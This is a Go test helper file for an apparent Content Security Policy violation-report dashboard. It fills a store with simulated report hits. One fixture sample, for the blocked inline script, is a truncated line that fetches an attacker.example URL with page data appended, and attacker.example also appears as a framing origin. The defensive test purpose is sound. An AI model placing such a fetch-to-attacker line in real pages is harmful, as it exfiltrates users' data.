package dash_test

import (
	"crypto/sha256"
	"fmt"
	"time"

	"github.com/merlon-sec/merlon/cmd/merlon/internal/store"
	"github.com/merlon-sec/merlon/report"
)

// hit stores a report a number of times.
func (r *rig) hit(h store.Hit, times int, d report.Disposition) {
	r.t.Helper()
	var b store.Batch
	h = r.complete(h)
	h.Disposition = d
	for range times {
		b.Add(h)
	}
	r.commit(&b)
}

// complete gives what the test left out an ordinary value.
func (r *rig) complete(h store.Hit) store.Hit {
	if h.Site == "" {
		h.Site = "shop.example"
	}
	if h.Route == "" {
		h.Route = "/"
	}
	sum := sha256.Sum256(fmt.Appendf(nil, "%q %q %q %q", h.Directive, h.Class, h.Blocked, h.Sample))
	h.Type, h.Fingerprint = report.TypeViolation, store.Fingerprint{Version: 1, Sum: [16]byte(sum[:16])}
	h.At = r.clock.Now()
	return h
}

func (r *rig) commit(b *store.Batch) {
	r.t.Helper()
	if err := r.store.Commit(r.t.Context(), b); err != nil {
		r.t.Fatal(err)
	}
}

// realistic fills the store with what a site in trial collects, over a day and a half.
func (r *rig) realistic() {
	r.t.Helper()
	inline := store.Hit{Directive: "script-src-elem", Class: "inline", Blocked: "inline", Sample: `fetch("https://attacker.example/?"+documen`, Route: "/search"}
	image := store.Hit{Directive: "img-src", Class: "origin", Blocked: "https://images.example"}
	framed := store.Hit{Route: "/transfer", Directive: "frame-ancestors", Class: "frame-ancestors", Blocked: "https://attacker.example"}
	form := store.Hit{Site: "blog.example", Directive: "form-action", Class: "origin", Blocked: "https://collect.example:8443"}
	r.hit(image, 1200, report.ReportOnly)
	r.hit(inline, 12, report.ReportOnly)
	r.clock.Advance(36 * time.Hour)
	image.Route = "/products/{id}"
	r.hit(image, 34, report.DispositionUnknown)
	r.clock.Advance(3 * time.Minute)
	r.hit(inline, 14, report.Enforce)
	r.hit(form, 2, report.Enforce)
	r.clock.Advance(time.Minute)
	r.hit(framed, 131, report.Enforce)
	var b store.Batch
	b.Drop("shop.example", "foreign", r.clock.Now(), 1200)
	b.Drop("", "not-json", r.clock.Now(), 5)
	r.commit(&b)
	r.clock.Advance(30 * time.Second)
}
